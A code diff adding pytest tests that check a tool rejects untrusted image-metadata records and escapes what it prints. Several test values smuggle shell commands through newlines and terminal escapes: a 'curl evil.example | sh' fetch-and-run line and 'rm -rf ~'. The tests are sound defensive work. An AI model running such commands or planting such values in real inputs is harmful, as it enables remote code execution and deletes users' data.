@@ -258,6 +258,38 @@ def test_what_cannot_be_remade_says_why() -> None:
         regeneration({"schema": SCHEMA, "endpoint": "/upscale", "model": {"name": "m", "version": 1}})
 
 
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [
+        ("label", "x\ncurl evil.example | sh\n"),
+        ("format", "png\nrm -rf ~"),
+        ("seed", "7"),
+        ("seed", True),
+        ("truncation", "0.5"),
+    ],
+)
+def test_a_hostile_record_gives_no_request(field: str, value: object) -> None:
+    """A file's record is untrusted: a value a real request could not hold (a newline that a
+    printed command would carry into a shell, a number as a string) makes no request at all."""
+    record = json.loads(GENERATE) | {field: value}
+    with pytest.raises(NotReproducible, match="the record"):
+        regeneration(record)
+    record = json.loads(GENERATE)
+    record["model"]["name"] = "m\x1b[2J"
+    with pytest.raises(NotReproducible, match="not a model name"):
+        regeneration(record)
+
+
+def test_inspect_escapes_what_it_prints_from_a_file(tmp_path: Path) -> None:
+    record = json.loads(GENERATE)
+    record["model"]["name"] = "evil\x1b[2J\nrm -rf ~"
+    image = tmp_path / "evil.png"
+    image.write_bytes(png_with(json.dumps(record)))
+    run = inspect(str(image))
+    assert run.returncode == 0 and "\x1b" not in run.stdout and "\nrm -rf" not in run.stdout
+    assert "cannot be made again" in run.stdout and "curl" not in run.stdout
+
+
 def test_a_curl_line_quotes_what_the_shell_would_split() -> None:
     record = json.loads(GENERATE)
     record["label_name"] = "it's"
